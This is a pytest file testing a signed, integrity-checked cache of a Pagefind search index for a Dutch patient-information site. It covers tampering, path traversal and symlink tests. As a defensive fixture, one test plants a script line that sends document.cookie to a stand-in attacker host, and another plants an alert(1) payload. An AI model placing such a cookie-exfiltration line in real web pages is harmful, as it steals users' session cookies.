"""The stored search index: put back only when the pages are those it was made of, and only when it is ours."""

import hashlib
import hmac
import json

import pytest

from patienthub.publish import afterbuild, search_index, stored_index
from patienthub.publish.stored_index import StoredIndex

SECRET = b"k" * 32
PAGE = (
    "<!doctype html><html lang='nl'><head><title>{title}</title></head>"
    "<body><main data-pagefind-body><h1>{title}</h1>"
    + "<p>Blijf zoveel mogelijk bewegen. {word} gaat meestal vanzelf over.</p>" * 30
    + "</main></body></html>"
)


def _site(folder, word="Rugpijn"):
    for name in ("rugpijn", "hernia"):
        (folder / name).mkdir(parents=True, exist_ok=True)
        page = PAGE.format(title=name.capitalize(), word=word)
        (folder / name / "index.html").write_text(page, encoding="utf-8")
    return folder


def _index(site):
    return {
        p.relative_to(site / "pagefind").as_posix(): p.read_bytes()
        for p in sorted((site / "pagefind").rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def store(tmp_path):
    return StoredIndex(tmp_path / "cache" / "search-index", SECRET)


def test_the_same_pages_get_the_stored_index_back_without_pagefind(tmp_path, store, monkeypatch):
    first = _site(tmp_path / "first")
    afterbuild.run(first, stored_index=store)
    made = _index(first)
    assert "pagefind.js" in made and "pagefind.js.gz" in made  # stored with its compressed copies

    def refuse(site_dir):
        raise AssertionError("Pagefind was run")

    monkeypatch.setattr(search_index, "start", refuse)
    again = _site(tmp_path / "again")  # another folder, the same pages
    afterbuild.run(again, stored_index=store)
    assert _index(again) == made


def test_a_changed_page_is_indexed_again_and_that_index_is_stored(tmp_path, store):
    site = _site(tmp_path / "site")
    afterbuild.run(site, stored_index=store)
    before = _index(site)
    key_before = store.key(site)
    _site(site, word="Ischias")  # one word different on every page
    assert store.key(site) != key_before
    afterbuild.run(site, stored_index=store)
    assert _index(site) != before
    other = _site(tmp_path / "other", word="Ischias")
    assert store.restore(other, store.key(other))
    assert _index(other) == _index(site)


def test_the_key_follows_paths_pagefind_settings_and_options(tmp_path, store, monkeypatch):
    site = _site(tmp_path / "site")
    key = store.key(site)
    assert store.key(site) == key  # the same folder: the same key
    (site / "rugpijn").rename(site / "rugpijn-2")
    renamed = store.key(site)
    assert renamed != key
    monkeypatch.setenv("PAGEFIND_EXCLUDE_SELECTORS", "p")
    assert store.key(site) != renamed
    monkeypatch.delenv("PAGEFIND_EXCLUDE_SELECTORS")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pagefind.yml").write_text("exclude_selectors: [p]\n", encoding="utf-8")
    assert store.key(site) != renamed
    (tmp_path / "pagefind.yml").unlink()
    monkeypatch.setattr(search_index, "arguments", lambda: ["--force-language", "en"])
    assert store.key(site) != renamed


def test_a_changed_file_in_the_store_is_never_published(tmp_path, store):
    site = _site(tmp_path / "site")
    afterbuild.run(site, stored_index=store)
    genuine = (site / "pagefind" / "pagefind.js").read_bytes()
    (store.folder / "files" / "pagefind.js").write_bytes(b"fetch('https://elders.example/'+document.cookie)")
    again = _site(tmp_path / "again")
    assert not store.restore(again, store.key(again))
    assert not (again / "pagefind").exists()  # nothing half-written
    afterbuild.run(again, stored_index=store)  # Pagefind runs instead, and stores a good copy
    assert (again / "pagefind" / "pagefind.js").read_bytes() == genuine


def _sign(store, secret, files, key):
    payload = json.dumps({"key": key, "files": files}, sort_keys=True).encode("utf-8")
    (store.folder / "index.json").write_bytes(hmac.new(secret, payload, hashlib.sha256).digest() + payload)


def test_a_store_signed_by_anyone_else_is_not_used(tmp_path, store):
    site = _site(tmp_path / "site")
    afterbuild.run(site, stored_index=store)
    planted = b"alert(1)"
    (store.folder / "files" / "pagefind.js").write_bytes(planted)
    files = {"pagefind.js": hashlib.sha256(planted).hexdigest()}
    _sign(store, b"x" * 32, files, store.key(site))  # a list that matches the files, under another key
    assert not store.restore(site, store.key(site))
    (store.folder / "index.json").write_bytes(b"kort")
    assert not store.restore(site, store.key(site))


def test_a_signed_list_that_points_outside_the_store_is_refused(tmp_path, store):
    site = _site(tmp_path / "site")
    (tmp_path / "cache" / "search-index" / "files").mkdir(parents=True)
    (tmp_path / "cache" / "secret.txt").write_bytes(b"geheim")
    files = {"../../secret.txt": hashlib.sha256(b"geheim").hexdigest()}
    _sign(store, SECRET, files, store.key(site))
    assert not store.restore(site, store.key(site))
    assert not (site / "pagefind").exists()


def test_without_compressed_copies_nothing_is_stored_or_put_back(tmp_path, store):
    site = _site(tmp_path / "site")
    afterbuild.run(site, trim_css=False, compress=False, stored_index=store)  # `mkdocs serve`
    assert (site / "pagefind" / "pagefind.js").is_file()
    assert not store.folder.exists()


def test_a_cache_that_cannot_be_written_is_no_error(tmp_path):
    (tmp_path / "cache").write_text("een bestand, geen map", encoding="utf-8")
    site = _site(tmp_path / "site")
    afterbuild.run(site, stored_index=StoredIndex(tmp_path / "cache" / "search-index", SECRET))
    assert (site / "pagefind" / "pagefind.js").is_file()


def test_the_store_keeps_one_index(tmp_path, store):
    for word in ("Rugpijn", "Ischias"):
        afterbuild.run(_site(tmp_path / word, word=word), stored_index=store)
    assert sorted(p.name for p in store.folder.iterdir()) == [stored_index.FILES_DIR, stored_index.MANIFEST]


def test_a_linked_store_folder_is_neither_written_nor_read(tmp_path):
    victim = tmp_path / "elders"
    (victim / "files").mkdir(parents=True)
    (victim / "files" / "dierbaar.txt").write_text("blijft", encoding="utf-8")
    (tmp_path / "cache").mkdir()
    (tmp_path / "cache" / "search-index").symlink_to(victim, target_is_directory=True)
    store = StoredIndex(tmp_path / "cache" / "search-index", SECRET)
    site = _site(tmp_path / "site")
    afterbuild.run(site, stored_index=store)
    assert (victim / "files" / "dierbaar.txt").read_text(encoding="utf-8") == "blijft"
    assert sorted(p.name for p in victim.iterdir()) == ["files"]
    assert not store.restore(site, store.key(site))


def test_pages_in_the_index_folder_and_settings_are_told_apart_in_the_key(tmp_path, store, monkeypatch):
    site = _site(tmp_path / "site")
    key = store.key(site)
    (site / "pagefind").mkdir()
    (site / "pagefind" / "binnen.html").write_text(
        "<main data-pagefind-body>Ischias</main>", encoding="utf-8"
    )
    assert store.key(site) != key  # Pagefind indexes a page there too
    (site / "pagefind" / "binnen.html").unlink()
    monkeypatch.setenv("PAGEFIND_A", "x")
    with_setting = store.key(site)
    monkeypatch.delenv("PAGEFIND_A")
    (site / "PAGEFIND_A").write_text("x", encoding="utf-8")  # not a page: no part of the key
    (site / "PAGEFIND_A.html").write_text("x", encoding="utf-8")
    assert store.key(site) not in (key, with_setting)
